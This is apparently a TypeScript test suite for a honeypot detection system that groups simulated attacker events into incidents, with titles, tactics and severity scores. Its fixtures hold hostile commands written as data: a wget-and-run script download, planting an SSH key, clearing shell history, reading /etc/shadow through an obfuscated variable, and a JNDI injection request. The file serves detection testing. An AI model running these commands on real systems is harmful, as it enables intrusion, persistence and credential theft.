import type { Action } from '@netsentinel/contracts/action';
import { Incident, INCIDENT_LIMITS } from '@netsentinel/contracts/incident';
import type { Detection } from '@netsentinel/contracts/detection';
import type { Event } from '@netsentinel/contracts/event';
import { createDetectors } from '@netsentinel/detect/detectors';
import { newActorState, rememberBefore } from '@netsentinel/detect/actor-state';
import { moveEvent, movesOf, STORY_START, type Move, type MoveSketch } from '@netsentinel/detect/test-moves';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { foldAction } from './fold-action.ts';
import { foldEvent } from './fold.ts';
import { summaryOf } from '@netsentinel/contracts/incident';

const detectors = createDetectors();

/** The way analysis takes: detect, fold, remember. Answers every incident that there was. */
function tell(events: readonly Event[]): Incident[] {
  const state = newActorState();
  const incidents = new Map<string, Incident>();
  let incident: Incident | undefined;
  for (const event of events) {
    const detections = detectors.process(event, state);
    incident = foldEvent(incident, event, detections, { before: state.before });
    if (incident === undefined) rememberBefore(state, event);
    else incidents.set(incident.id, incident);
  }
  return [...incidents.values()];
}

/** What the watcher saw, from the attacker of `moveEvent`. */
function probeOf(sequence: number, kind: string, touched: number, total: number): Event {
  const time = new Date(STORY_START - 60_000 + sequence * 1000).toISOString();
  const { source, netsentinel } = moveEvent({ connect: true }, STORY_START, sequence);
  return {
    '@timestamp': time,
    event: {
      id: `watcher~w1~${sequence}`,
      kind: 'event',
      category: ['network'],
      dataset: 'netsentinel.watcher',
      ingested: time,
      sequence,
    },
    source,
    destination: { ip: '192.0.2.1', port: 23 },
    netsentinel: {
      sensor: { id: 'watcher', type: 'watcher' },
      source_verified: false,
      actor: netsentinel.actor,
      probe: { kind, touched, total },
    },
  };
}

const attack: Move[] = [
  { connect: true },
  { handshake: 'SSH-2.0-Go' },
  ...['1', '2', '3', '4', '5'].map((password) => ({ login: 'root', password })),
  { login: 'root', password: '123456', ok: true },
  'uname -a; cat /proc/cpuinfo',
  'cd /tmp; wget http://192.0.2.9/x.sh; chmod 777 x.sh; sh x.sh',
  { download: 'http://192.0.2.9/x.sh' },
  { execute: '/tmp/x.sh' },
  'echo "ssh-rsa AAAA k" >> ~/.ssh/authorized_keys',
  'history -c',
  { disconnect: true },
];

describe('an attack by SSH', () => {
  const [incident, ...others] = tell(movesOf(attack));

  it('is one incident that keeps its schema', () => {
    expect(others).toEqual([]);
    expect(Incident.safeParse(incident).error).toBeUndefined();
  });

  it('reads as what happened', () => {
    expect(incident).toMatchObject({
      title:
        'SSH break-in by brute force from 198.51.100.7, logged in as root, brought in and ran a file, planted an SSH key, cleared the history',
      severity: 'critical',
      sourceVerified: true,
      status: 'open',
      firstSeen: STORY_START + 1000,
      counts: { events: 15, logins: 1, failures: 5, commands: 4 },
      addresses: ['198.51.100.7'],
    });
    expect(incident?.score).toBeGreaterThanOrEqual(90);
  });

  it('names nobody where the login had no name', () => {
    const [unnamed] = tell(movesOf([{ connect: true }, { login: '', password: '', ok: true }]));
    expect(unnamed?.title).toBe('SSH break-in from 198.51.100.7, logged in');
  });

  it('stays a break-in by its service, whatever fails elsewhere afterwards', () => {
    const elsewhere = ['a', 'b', 'c', 'd', 'e', 'f'].map((password, at) => {
      const event = moveEvent({ login: 'root', password }, STORY_START + 60_000 + at * 1000, 100 + at);
      event.network = { protocol: 'ftp' };
      event.netsentinel.session = { id: `ftp-${at}` };
      return event;
    });
    const [known] = tell([...movesOf([{ connect: true }, { login: 'root', password: 'x', ok: true }]), ...elsewhere]);
    expect(known?.detections.map(({ rule }) => rule)).toContain('login-brute-force');
    expect(known?.title).toBe('SSH break-in from 198.51.100.7, logged in as root');
    expect(known?.timeline.filter(({ kind }) => kind === 'login-failed')).toMatchObject([
      { count: 6, protocol: 'ftp' },
    ]);
  });

  it('keeps where they got in when hundreds of connections follow', () => {
    const after = Array.from({ length: 2000 }, (_, at) => {
      const event = moveEvent(
        at % 2 === 0 ? { connect: true } : { login: `user${at}`, password: `${at}` },
        STORY_START + 60_000 + at * 30_000,
        100 + at,
      );
      event.netsentinel.session = { id: `later-${at >> 1}` };
      event.netsentinel.decoy = { id: 'telnet-1', type: 'telnet' };
      event.network = { protocol: 'telnet' };
      return event;
    });
    const [known] = tell([...movesOf([{ connect: true }, { login: 'root', password: 'x', ok: true }, 'id']), ...after]);
    expect(known?.title).toBe('SSH break-in from 198.51.100.7, logged in as root');
    expect(known?.timeline.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['login', 'command']));
    expect(known?.credentials.filter(({ accepted }) => accepted)).toHaveLength(1);
  });

  it('knows the tactics in the order in which they were reached', () => {
    expect(incident?.tactics).toEqual(['TA0043', 'TA0006', 'TA0001', 'TA0007', 'TA0011', 'TA0002', 'TA0005', 'TA0003']);
    expect(incident?.techniques).toEqual(
      expect.arrayContaining(['T1110.001', 'T1078', 'T1082', 'T1105', 'T1098.004', 'T1070.003']),
    );
  });

  it('keeps session, credentials, commands, files and fingerprints', () => {
    expect(incident?.sessions).toEqual([
      {
        id: 's1',
        decoy: 'ssh-1',
        protocol: 'ssh',
        start: STORY_START + 1000,
        end: STORY_START + 15_000,
        user: 'root',
        client: 'SSH-2.0-Go',
      },
    ]);
    expect(incident?.credentials.at(-1)).toMatchObject({ user: 'root', password: '123456', accepted: true, count: 1 });
    expect(incident?.commands.map((one) => one.techniques.length > 0)).toEqual([true, true, true, true]);
    expect(incident?.files).toMatchObject([{ path: '/tmp/x.sh', url: 'http://192.0.2.9/x.sh', direction: 'download' }]);
    expect(incident?.fingerprints.map((one) => one.kind)).toEqual(['hassh', 'ssh-client']);
  });

  it('tells it in order, failures in one line', () => {
    const kinds = incident?.timeline.filter((entry) => entry.kind !== 'detection').map((entry) => entry.kind);
    expect(kinds).toEqual([
      'connect',
      'login-failed',
      'login',
      'command',
      'command',
      'file',
      'execute',
      'command',
      'command',
      'disconnect',
    ]);
    expect(incident?.timeline.find((entry) => entry.kind === 'login-failed')).toMatchObject({
      title: '5 failed logins, the last as root with password 5',
      count: 5,
    });
    const times = incident?.timeline.map((entry) => entry.time) ?? [];
    expect([...times].sort((a, b) => a - b)).toEqual(times);
  });

  it('shows the list what it needs', () => {
    expect(summaryOf(incident!)).toMatchObject({ id: incident!.id, score: incident!.score, title: incident!.title });
  });
});

describe('folding', () => {
  it('opens nothing for a bare connect, and takes it in once there is more', () => {
    expect(tell(movesOf([{ connect: true }, { disconnect: true }]))).toEqual([]);
    const [incident] = tell(
      movesOf([{ connect: true }, { disconnect: true }, { connect: true }, { forward: '192.0.2.1:25' }]),
    );
    expect(incident?.timeline.map((entry) => entry.kind)).toEqual(['connect', 'forward', 'detection']);
    expect(incident?.timeline[0]).toMatchObject({ title: 'Connected 2 times to ssh-1', count: 2, protocol: 'ssh' });
    expect(incident?.firstSeen).toBe(STORY_START + 1000);
    expect(incident?.title).toBe('SSH probe from 198.51.100.7, tunnelled connections');
  });

  it('opens on logins elsewhere only when they become an attack', () => {
    const login = { login: 'bob', password: 'x', decoy: false };
    expect(tell(movesOf([login, login, login, login]))).toEqual([]);
    const [incident] = tell(movesOf([login, login, login, login, login]));
    expect(incident).toMatchObject({ counts: { failures: 5 }, severity: 'medium' });
  });

  it('is as bad as the worst that was found by the same rule, and tells that', () => {
    const [first, second, third] = movesOf(['ls', 'ls', 'ls']);
    const found = (event: Event, severity: Detection['severity']): Detection => ({
      id: `one~${event.event.id}`,
      rule: { id: 'one', title: 'One' },
      actor: event.netsentinel.actor,
      time: Date.parse(event['@timestamp']),
      severity,
      confidence: 50,
      techniques: ['T1595'],
      tactics: ['TA0043'],
      summary: severity,
      evidence: [event.event.id],
      sourceVerified: true,
    });
    let incident = foldEvent(undefined, first!, [found(first!, 'low')], { before: [] });
    incident = foldEvent(incident, second!, [found(second!, 'high')], { before: [] });
    incident = foldEvent(incident, third!, [found(third!, 'medium')], { before: [] });
    expect(incident).toMatchObject({ severity: 'high', detections: [{ rule: 'one', severity: 'high', count: 3 }] });
    const told = incident!.timeline.filter(({ kind }) => kind === 'detection');
    expect(told.map(({ severity }) => severity)).toEqual(['low', 'high']);
  });

  it('changes nothing when the latest event comes again', () => {
    const events = movesOf(attack);
    const state = newActorState();
    let incident: Incident | undefined;
    for (const event of events) {
      const detections = detectors.process(event, state);
      incident = foldEvent(incident, event, detections, { before: [] });
      if (incident === undefined || detections.length === 0) continue;
      expect(foldEvent(incident, event, detections, { before: [] })).toBe(incident);
    }
    expect(incident?.counts.events).toBe(14);
  });

  it('leaves what it was given as it was', () => {
    const events = movesOf(attack);
    const [before] = tell(events.slice(0, 8));
    const copy = structuredClone(before);
    foldEvent(before, events[9]!, [], { before: [] });
    expect(before).toEqual(copy);
  });

  it('takes two halves of a session that a crash cut for one', () => {
    const [incident, ...others] = tell(
      movesOf([
        { login: 'root', password: 'x', ok: true },
        'uname',
        { command: 'id', after: 40 },
        { disconnect: true, after: 1 },
      ]).map((event, at) => {
        if (at >= 2) event.event.id = `ssh-1~m2~${at}`;
        return event;
      }),
    );
    expect(others).toEqual([]);
    expect(incident?.sessions).toHaveLength(1);
    expect(incident?.sessions[0]?.end).toBeDefined();
  });

  it('opens another after a long quiet, and after the first was closed', () => {
    const [first, second, ...others] = tell(movesOf(['uname', { command: 'id', after: 25 * 3600 }]));
    expect(others).toEqual([]);
    expect(second?.id).not.toBe(first?.id);
    expect(second?.counts.commands).toBe(1);
    const closed: Incident = { ...first!, status: 'closed' };
    expect(foldEvent(closed, movesOf(['ls'], 9)[0]!, [], { before: [] })?.id).not.toBe(closed.id);
    expect(foldEvent(closed, moveEvent({ connect: true }, STORY_START, 10), [], { before: [] })).toBeUndefined();
  });

  it('trusts unproven sources little', () => {
    const unproven = attack.map((move) => ({
      ...(typeof move === 'string' ? { command: move } : move),
      verified: false,
    }));
    const [incident] = tell(movesOf(unproven));
    expect(incident?.sourceVerified).toBe(false);
    expect(incident?.score).toBeLessThanOrEqual(50);
  });

  it('brings events that come late to their place', () => {
    const [incident] = tell(movesOf(['first', { command: 'third', after: 10 }, { command: 'second', after: -5 }]));
    expect(incident?.timeline.filter((entry) => entry.kind === 'command').map((entry) => entry.title)).toEqual([
      'first',
      'second',
      'third',
    ]);
    expect(incident?.lastSeen).toBe(STORY_START + 11_000);
  });

  it('tells many tunnels in one line, with what was sent through them', () => {
    const events = movesOf([{ forward: '192.0.2.1:25' }, { forward: '192.0.2.2:25' }, { forward: '192.0.2.2:25' }]);
    events[2]!.message = 'EHLO you\r\n';
    const [incident] = tell([...events, ...movesOf([{ outbound: '192.0.2.3:80' }], 9)]);
    expect(incident?.timeline.filter((entry) => entry.kind !== 'detection')).toMatchObject([
      {
        kind: 'forward',
        count: 2,
        title: 'Asked for 2 tunnels, the last to 192.0.2.2:25',
        detail: 'EHLO you\\u{d}\\u{a}',
      },
      { kind: 'outbound', title: 'Tried to connect to 192.0.2.3:80' },
    ]);
    expect(incident?.detections.find((row) => row.rule === 'port-forward')?.count).toBe(2);
  });

  it('adds to a line what its programs came to', () => {
    const [incident] = tell(movesOf(['a=sha; cat /etc/${a}dow', { program: ['cat', '/etc/shadow'] }]));
    expect(incident?.commands).toMatchObject([{ techniques: ['T1003.008'] }]);
    const [other] = tell(movesOf([{ program: ['cat', '/etc/shadow'] }]));
    expect(other?.commands).toEqual([]);
  });

  it('names the latest address of an IPv6 actor first', () => {
    const actor = '2001:db8::/64';
    const events = ['2001:db8::1', '2001:db8::2', '2001:db8::1'].map((ip, at) => {
      const event = moveEvent({ command: 'ls' }, STORY_START + at, at + 1, actor);
      event.source = { ip };
      return event;
    });
    expect(tell(events)[0]?.addresses).toEqual(['2001:db8::1', '2001:db8::2']);
  });

  const anything: fc.Arbitrary<MoveSketch> = fc.oneof(
    fc.record({ login: fc.string(), password: fc.string(), ok: fc.boolean() }),
    fc.record({
      command: fc.oneof(fc.string(), fc.constantFrom('uname', 'wget http://192.0.2.1/x; sh x', 'y'.repeat(5000))),
    }),
    fc.record({ program: fc.array(fc.string(), { maxLength: 3 }), session: fc.string({ maxLength: 3 }) }),
    fc.record({ download: fc.webUrl() }),
    fc.record({ upload: fc.string({ maxLength: 9000 }) }),
    fc.record({ write: fc.string() }),
    fc.record({ execute: fc.string() }),
    fc.record({ outbound: fc.constant('192.0.2.1:80') }),
    fc.record({ forward: fc.constant('192.0.2.1:25') }),
    fc.record({ handshake: fc.string(), session: fc.string({ maxLength: 3 }) }),
    fc.record({ connect: fc.constant(true) }),
    fc.record({ disconnect: fc.constant(true), session: fc.string({ maxLength: 3 }) }),
  );

  it('keeps schema and bounds whatever comes in whatever order', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(anything, fc.integer({ min: -100_000, max: 100_000 })), { maxLength: 60 }),
        (moves) => {
          const events = moves.map(([move, seconds], at) => moveEvent(move, STORY_START + seconds * 1000, at + 1));
          for (const incident of tell(events)) {
            expect(Incident.safeParse(incident).error).toBeUndefined();
            const times = incident.timeline.map((entry) => entry.time);
            expect([...times].sort((a, b) => a - b)).toEqual(times);
          }
        },
      ),
      { numRuns: 150 },
    );
  });

  it('keeps its bounds under a flood, and says what it left out', () => {
    const moves: Move[] = [];
    for (let n = 0; n < 700; n++)
      moves.push(
        { login: `u${n}`, password: `p${n}` },
        { command: `c${n}`, session: `s${n}`, after: 0 },
        { upload: `/tmp/${n}`, after: 0 },
      );
    const [incident] = tell(movesOf(moves));
    expect(Incident.safeParse(incident).error).toBeUndefined();
    for (const list of ['timeline', 'credentials', 'commands', 'files', 'sessions'] as const) {
      expect(incident?.[list]).toHaveLength(INCIDENT_LIMITS[list]);
      expect(incident?.omitted[list]).toBeGreaterThan(0);
    }
    expect(incident?.omitted['commands']).toBe(200);
    expect(incident?.counts).toMatchObject({ commands: 700, failures: 700, events: 2100 });
    expect(incident?.commands.at(-1)?.input).toBe('c699');
  });
});

describe('actions in the story', () => {
  const [incident] = tell(movesOf(attack));
  const action = (status: Action['status'], id = 'act-1'): Action => ({
    id,
    incident: incident!.id,
    actor: incident!.actor,
    kind: 'block',
    target: incident!.actor,
    responder: 'nftables',
    reason: 'because',
    status,
    createdAt: STORY_START,
    expiresAt: STORY_START + 3_600_000,
    updatedAt: STORY_START + 20_000,
  });

  it.each([
    [['planned', 'applied', 'verified'], 'contained'],
    [['planned', 'simulated'], 'open'],
    [['planned', 'applied', 'expired'], 'open'],
    [['applied', 'reverted'], 'open'],
    [['applied', 'failed'], 'open'],
    [['planned', 'refused'], 'open'],
  ] as const)('after %j the incident is %s', (statuses, expected) => {
    let current = incident!;
    for (const status of statuses) current = foldAction(foldAction(current, action(status)), action(status));
    expect(current.status).toBe(expected);
    expect(current.timeline.filter((entry) => entry.kind === 'action')).toHaveLength(statuses.length);
    expect(current.actions).toEqual(['act-1']);
    expect(Incident.safeParse(current).error).toBeUndefined();
  });

  it('an older block that ends does not free one who is held by a newer', () => {
    let current = foldAction(incident!, action('applied'));
    current = foldAction(current, action('applied', 'act-2'));
    expect(foldAction(current, action('expired')).status).toBe('contained');
    expect(foldAction(current, { ...action('expired'), incident: 'other' })).toBe(current);
  });
});

describe('where the attacker got in', () => {
  const real = (event: Event): Event => {
    const { decoy: _, ...rest } = event.netsentinel;
    return { ...event, netsentinel: rest };
  };
  const [tried, decoy] = movesOf([
    { login: 'root', password: 'x' },
    { login: 'root', password: 'y', ok: true },
  ]);

  it('is told: at decoys, on a machine, or nowhere', () => {
    expect(tell([tried!])[0]!.inside).toBeUndefined();
    expect(tell([tried!, decoy!])[0]!.inside).toBe('decoy');
    const [machine, again] = movesOf([{ login: 'root', ok: true }, 'id'], 10);
    expect(tell([decoy!, real(machine!), again!])[0]!.inside).toBe('machine');
  });
});

describe('a known scanner', () => {
  const shodan = { id: 'shodan', name: 'Shodan', kind: 'research' } as const;
  const probing: Move[] = ['.env', '.git/config', 'shell.php', 'phpmyadmin/index.php', 'backup.sql'].map((path) => ({
    request: `GET /${path}`,
    status: 404,
  }));
  const by = (scanner: typeof shodan | undefined, moves: readonly Move[]): Incident[] =>
    tell(
      movesOf(moves).map((event) =>
        scanner === undefined ? event : { ...event, netsentinel: { ...event.netsentinel, scanner } },
      ),
    );

  it('is named, and its probing weighs little', () => {
    const [stranger] = by(undefined, probing);
    const [incident] = by(shodan, probing);
    expect(stranger).toMatchObject({ severity: 'medium', title: 'SSH probe from 198.51.100.7' });
    expect(incident).toMatchObject({
      severity: 'low',
      scanner: shodan,
      title: 'Shodan, a research scanner: SSH probe from 198.51.100.7',
    });
    expect(incident!.score).toBeLessThan(30);
    expect(Incident.safeParse(incident).error).toBeUndefined();
    expect(summaryOf(incident!).scanner).toEqual(shodan);
  });

  it('weighs as anybody where it does more than look', () => {
    const [incident] = by(shodan, attack);
    expect(incident).toMatchObject({ severity: 'critical', scanner: shodan });
    expect(incident!.title).toMatch(/^Shodan, a research scanner: SSH break-in by brute force from/);
    const [exploit] = by(shodan, [{ request: 'GET /?x=${jndi:ldap://192.0.2.1/a}' }]);
    const [same] = by(undefined, [{ request: 'GET /?x=${jndi:ldap://192.0.2.1/a}' }]);
    expect([exploit!.severity, exploit!.score]).toEqual([same!.severity, same!.score]);
  });
});

describe("what is no attack by a person's word", () => {
  it('is over: what comes next is another story', () => {
    const [incident] = tell(movesOf(attack));
    const [event] = movesOf([{ login: 'root', password: 'x' }], 100);
    const next = foldEvent({ ...incident!, status: 'benign' }, event!, [], { before: [] });
    expect(next?.id).not.toBe(incident!.id);
  });

  it('opens no incident at a decoy but by what else was found', () => {
    const [event] = movesOf([{ login: 'root', password: 'x' }]);
    const detections = detectors.process(event!, newActorState());
    expect(detections.length).toBeGreaterThan(0);
    expect(foldEvent(undefined, event!, [], { before: [], isExcepted: true })).toBeUndefined();
    expect(foldEvent(undefined, event!, [], { before: [] })).toBeDefined();
    expect(foldEvent(undefined, event!, detections, { before: [], isExcepted: true })).toBeDefined();
  });
});

describe('probes of closed ports', () => {
  const scanned = (incident: Incident | undefined): string[] =>
    incident!.timeline.filter(({ kind }) => kind === 'probe').map(({ title }) => title);

  it('open nothing alone, and join the story of who breaks in', () => {
    const touch = probeOf(1, 'syn', 1, 1);
    expect(tell([touch])).toEqual([]);
    const [incident] = tell([touch, ...movesOf(attack)]);
    expect(scanned(incident)).toEqual(['SYN scan of 192.0.2.1: 1 port']);
    expect(incident!.firstSeen).toBe(Date.parse(touch['@timestamp']));
  });

  it('are in the title: all of it, or what they did besides', () => {
    const found = (event: Event): Detection => ({
      id: `port-scan~${event.event.id}`,
      rule: { id: 'port-scan', title: 'Port scan' },
      actor: event.netsentinel.actor,
      time: Date.parse(event['@timestamp']),
      severity: 'medium',
      confidence: 60,
      techniques: ['T1046'],
      tactics: ['TA0007'],
      summary: 'scanned',
      evidence: [event.event.id],
      sourceVerified: false,
    });
    const scan = probeOf(1, 'syn', 100, 100);
    const alone = foldEvent(undefined, scan, [found(scan)], { before: [] })!;
    expect(alone.title).toBe('Port scan from 198.51.100.7');
    const [connect] = movesOf([{ connect: true }]);
    expect(foldEvent(alone, connect!, [], { before: [] })!.title).toBe(
      'SSH probe from 198.51.100.7, scanned our ports',
    );
  });

  it('are one entry for each kind of scan, however many batches tell of it', () => {
    const [incident] = tell([
      ...movesOf(attack),
      probeOf(1, 'syn', 100, 100),
      probeOf(2, 'udp', 5, 5),
      probeOf(3, 'syn', 900, 1000),
      probeOf(4, 'echo', 0, 0),
      probeOf(5, 'echo', 0, 0),
      // The watcher has begun to count anew.
      probeOf(6, 'udp', 3, 3),
    ]);
    expect(scanned(incident).toSorted()).toEqual([
      'Ping of 192.0.2.1',
      'SYN scan of 192.0.2.1: 1000 ports',
      'UDP scan of 192.0.2.1: 3 ports',
      'UDP scan of 192.0.2.1: 5 ports',
    ]);
  });
});
